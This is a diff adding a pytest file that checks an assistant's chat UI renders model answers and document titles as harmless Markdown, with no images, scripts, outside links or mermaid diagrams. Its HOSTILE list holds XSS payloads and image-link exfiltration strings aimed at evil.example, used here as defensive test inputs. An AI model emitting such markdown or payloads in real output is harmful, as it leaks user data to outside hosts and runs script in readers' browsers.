@@ -1,0 +1,270 @@
+"""What models and documents say, as the page shows it: nothing of it draws, links or runs."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+from dataclasses import replace
+from html.parser import HTMLParser
+from string import Formatter
+from typing import get_args
+
+import pytest
+from markdown_it import MarkdownIt
+
+from assistant import errors
+from assistant.access.principal import AccessClass
+from assistant.ask.events import Notice, NoticeKind, Scores, Source, Step
+from assistant.errors import AssistantError, ConfigError, InvalidQuestion
+from assistant.ui.render import (
+    answer_markdown,
+    document_link,
+    notices_markdown,
+    safe_inline,
+    safe_markdown,
+    sources_markdown,
+    step_markdown,
+)
+from assistant.ui.texts import LANGUAGES, error_text, notice_text, page_language, texts
+from tests.unit.samples import source
+
+BAD = "http://evil.example/p.png?d=secret"
+HOSTILE = [
+    f"![x]({BAD})",
+    f"![x]( <{BAD}> 'title')",
+    f"[x]({BAD})",
+    f"[x](<{BAD}>)",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt&#58;alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](//evil.example)",
+    "[x](/logout)",
+    "[x](/documents/../logout)",
+    f"[x][e]\n\n[e]: {BAD}",
+    f"[e]\n\n[e]: {BAD}",
+    f"[e][]\n\n[e]: {BAD}",
+    f"![e]\n\n[e]: {BAD}",
+    f"[e]\n\n   [e]: <{BAD}> 'title'",
+    f"[e]\n\n> [e]: {BAD}",
+    f"[e]\n\n> > - [e]: {BAD}",
+    f"[e]\n\n- [e]: {BAD}",
+    f"[e]\n\n1. [e]: {BAD}",
+    f"[two words]\n\n[two\nwords]: {BAD}",
+    f"[a\\]b]\n\n[a\\]b]: {BAD}",
+    "[e]\n\n[e]:\n/logout",
+    "[e]\n\n[e]: /logout",
+    f"<{BAD}>",
+    "<javascript:alert(1)>",
+    "<someone@evil.example>",
+    f"{BAD} and HTTPS://EVIL.EXAMPLE and x{BAD} and ftp://evil.example",
+    "www.evil.example, WWW.evil.example, someone@evil.example, mailto:someone@evil.example",
+    f"<img src={BAD}>",
+    f"<img\nsrc='{BAD}'\n>",
+    f"text <a href='{BAD}'>x</a> <A HREF={BAD}>y",
+    "<script>alert(1)</script>",
+    "<svg onload=alert(1)><style>@import 'http://evil.example'</style>",
+    "<iframe src=//evil.example></iframe><form action=//evil.example><input>",
+    "<!-- --><img src=x onerror=alert(1)>",
+    "> <img src=x onerror=alert(1)>\n> ![x](http://evil.example)",
+    "- <img src=x onerror=alert(1)>\n  ![x](http://evil.example)",
+    f"| a | b |\n|---|---|\n| ![x]({BAD}) | <img src=x> |",
+    f"# ![x]({BAD})\n\n[x]({BAD})\n===",
+    f"**[x]({BAD})** _![x]({BAD})_ ~~[x]({BAD})~~",
+    f"[![x]({BAD})]({BAD})",
+    f"[a [b [c]]]({BAD})",
+    f"![a [1] b]({BAD}) and [a [1] b]({BAD})",
+    f"[x[1]]({BAD}) [x][1] ![1] ![1]({BAD}) [1]({BAD}) [[1]]({BAD}) !\\[1] \\![1] \\[1] \\\\[1]",
+    f"`a` ` ![x]({BAD}) `` ` ![x]({BAD})",
+    f"```\ncode\n```\n![x]({BAD})\n~~~\n<img src=x>",
+    f"\\![x]({BAD}) !\\[x]({BAD}) \\[x]({BAD}) [x\\]({BAD}) [x]\\\\({BAD})",
+    "&lt;img src=x&gt; &#60;img src=x&#62; &#91;x&#93;(http://evil.example)",
+    f"[x]\u200b({BAD}) [x]\u00a0({BAD}) [x] ({BAD}) [x]\n({BAD})",
+    "[^1]\n\n[^1]: <img src=x>",
+    f"[x]({BAD}\n\n[x](\n{BAD}\n)",
+    "\x00<img src=x>\r<script>alert(1)</script>\u2028![x](http://evil.example)",
+    "[" * 300 + "x" + f"]({BAD})" * 300,
+    "[" + "9" * 5000 + "]",
+]
+
+
+class Elements(HTMLParser):
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.found: list[tuple[str, dict[str, str | None]]] = []
+        self.text = ""
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found.append((tag, dict(attrs)))
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+
+def renderings(markdown: str) -> Iterator[Elements]:
+    """As CommonMark, with HTML let through, and with tables and strikethrough."""
+    for parser in (MarkdownIt(), MarkdownIt("commonmark", {"html": True}), MarkdownIt("js-default", {"html": True})):
+        yield Elements(parser.render(markdown))
+
+
+def assert_harmless(markdown: str, links: set[str]) -> None:
+    for elements in renderings(markdown):
+        for tag, attributes in elements.found:
+            assert tag not in {"img", "script", "iframe", "svg", "style", "form", "input", "object"}, markdown
+            assert not [name for name in attributes if name.startswith("on") or name == "src"], markdown
+            if tag == "a":
+                assert attributes.get("href") in links, markdown
+    # What GitHub's dialect, and so Gradio's page, links by itself.
+    assert not re.search(
+        r"(?:https?|ftp)://|www\.|[\w.+-]@[\w-]+\.", re.sub(r"\]\(/documents/[^)]*\)", "", markdown), re.I
+    )
+    assert "mermaid" not in markdown
+
+
+def numbered(n: int, text: str = "текст") -> Source:
+    return source(n, text, title=f"Документ {n}")
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_a_hostile_text_is_harmless(text: str) -> None:
+    own = {document_link(numbered(1)), document_link(numbered(2))}
+    assert_harmless(safe_markdown(text), set())
+    assert_harmless(safe_inline(text), set())
+    assert_harmless(answer_markdown(text, [numbered(1), numbered(2)]), own)
+    assert_harmless(answer_markdown(f"{text}[1]{text}[2] {text}", [numbered(1), numbered(2)]), own)
+    assert_harmless(answer_markdown(text, []), set())
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_so_is_every_beginning_of_it(text: str) -> None:
+    """An answer streams: the page shows whatever has arrived."""
+    for end in range(0, min(len(text), 150)):
+        assert_harmless(answer_markdown(text[:end], [numbered(1)]), {document_link(numbered(1))})
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+@pytest.mark.parametrize("language", LANGUAGES)
+def test_hostile_titles_pages_and_paths_are_harmless(text: str, language: str) -> None:
+    plain = numbered(1)
+    passage = replace(
+        plain.passage, title=text, page=text, path=text, section=text, access_class=AccessClass(text, 2), text=text
+    )
+    hostile = replace(plain, passage=passage, scores=Scores(1.0, 0.5, None))
+    own = {document_link(plain)}
+    assert_harmless(sources_markdown([hostile, hostile], language), own)
+    assert_harmless(step_markdown(Step(text, (hostile,), 1, 0.1), language), own)
+    assert_harmless(step_markdown(Step(text, (), 0, 0.1), language), own)
+    assert_harmless(notices_markdown([Notice("extractive", safe_inline(text))], language), set())
+
+
+@pytest.mark.parametrize("fence", ["```", "````", "~~~", "- ```", "> ```", "``` ", "```\t"])
+def test_no_diagram_is_drawn(fence: str) -> None:
+    """Gradio gives mermaid blocks to a library that draws images and links from them."""
+    drawing = 'flowchart LR\n A["<img src=http://evil.example>"] --> B\n click A href "javascript:alert(1)"'
+    text = f"{fence}mermaid\n{drawing}\n```"
+    assert "mermaid" not in safe_markdown(text)
+    assert "mermaid" not in safe_markdown(text.replace("mermaid", "Mermaid")).lower()
+
+
+def test_numbers_become_links_to_their_passages() -> None:
+    shown = answer_markdown("Дней 28 [1][2]. Готово![2] Нет [3].", [numbered(1), numbered(2)])
+    (elements, *_) = renderings(shown)
+    hrefs = [attributes["href"] for tag, attributes in elements.found if tag == "a"]
+    assert hrefs == ["/documents/d1?chunk=d1-v-0#found", *["/documents/d2?chunk=d2-v-0#found"] * 2]
+    assert elements.text.strip() == "Дней 28 [1][2]. Готово![2] Нет [3]."
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "1. Первое\n2. Второе",
+        "- а\n- б",
+        "**жирно** и _курсив_, `код`",
+        "| а | б |\n| --- | --- |\n| 1 | 2 |",
+        "> цитата",
+        "Пишите на почта@компания.рф, см. https://portal.local/a?b=1&c=2 или www.portal.local: там всё.",
+        "a < b > c & d [e] (f) [g]: h ![i] # j",
+        "Диапазон [10] и список [1, 2].",
+        "`ssh user@host` и `@Override`, массив `a[0]`",
+    ],
+)
+def test_plain_text_reads_as_it_was_written(text: str) -> None:
+    parsers = (MarkdownIt("js-default"), MarkdownIt("js-default"))
+    before, after = (Elements(p.render(t)) for p, t in zip(parsers, (text, safe_markdown(text)), strict=True))
+    assert after.text == before.text
+    assert [tag for tag, _ in after.found] == [tag for tag, _ in before.found if tag != "a"]
+    one_line = " ".join(text.split())
+    assert Elements(MarkdownIt().renderInline(safe_inline(text))).text == one_line
+
+
+def test_the_list_of_sources_names_title_page_file_and_class() -> None:
+    found = replace(numbered(2), passage=replace(numbered(2).passage, page="7", path="hr/Отпуск (2025).pdf"))
+    text = Elements(MarkdownIt().render(sources_markdown([found], "ru"))).text
+    assert "[2] Документ 2, стр. 7" in text
+    assert "hr/Отпуск (2025).pdf · hr" in text
+    assert "hr 1" not in text, "level 1 goes without saying"
+
+
+def test_every_sentence_is_there_in_both_languages() -> None:
+    ru, en = LANGUAGES["ru"], LANGUAGES["en"]
+    assert set(ru) == set(en)
+    assert all(value.strip() for language in LANGUAGES.values() for value in language.values())
+    for key in ru:
+        assert _places(ru[key]) == _places(en[key]), key
+    assert all(re.search("[а-яё]", value, re.IGNORECASE) for value in ru.values())
+    assert not [key for key, value in en.items() if re.search("[а-яё]", value, re.IGNORECASE)]
+
+
+@pytest.mark.parametrize("language", LANGUAGES)
+def test_every_notice_and_every_error_has_a_sentence(language: str) -> None:
+    for kind in get_args(NoticeKind):
+        assert notice_text(Notice(kind, "{7}"), language)
+    for error in _errors(AssistantError):
+        sentence = error_text(error("internal {detail}"), language, limit=4000)
+        assert sentence in {value.replace("{limit}", "4000") for value in texts(language).values()}
+        assert "internal" not in sentence
+    assert "4000" in error_text(
+        InvalidQuestion("the question has 5000 characters, 4000 are allowed"), language, limit=4000
+    )
+    by_case = {
+        error_text(InvalidQuestion(text), language, limit=4000)
+        for text in ("the question is empty", "it does not fit into the language model's context", "too long")
+    }
+    assert len(by_case) == 3
+
+
+@pytest.mark.parametrize(
+    ("header", "language"),
+    [
+        (None, "ru"),
+        ("", "ru"),
+        ("en", "en"),
+        ("en-US,en;q=0.9", "en"),
+        ("EN-gb", "en"),
+        ("ru-RU,ru;q=0.9,en-US;q=0.8,en;q=0.7", "ru"),
+        ("de-DE,de;q=0.9,en;q=0.8,ru;q=0.7", "en"),
+        ("en;q=0.5,ru;q=0.9", "ru"),
+        ("en; q=0.5, ru; q=0.9", "ru"),
+        ("en;q=0,ru;q=0.1", "ru"),
+        ("en;q=0", "ru"),
+        ("de,fr", "ru"),
+        ("*", "ru"),
+        ("en;q=x,ru", "ru"),
+        (";;,,=;q=", "ru"),
+        ("de; q=0.9, en ; q=0.5 , ru; q = 0.4", "en"),
+        ("EN_us, en", "en"),
+        ("en;q=nan,ru;q=0.1", "ru"),
+    ],
+)
+def test_the_first_language_that_we_speak(header: str | None, language: str) -> None:
+    assert page_language(header) == language
+
+
+def _places(text: str) -> list[str]:
+    return sorted(name for _, name, _, _ in Formatter().parse(text) if name is not None)
+
+
+def _errors(kind: type[AssistantError]) -> list[type[AssistantError]]:
+    assert ConfigError.__module__ == errors.__name__
+    return [kind, *(below for found in kind.__subclasses__() for below in _errors(found))]
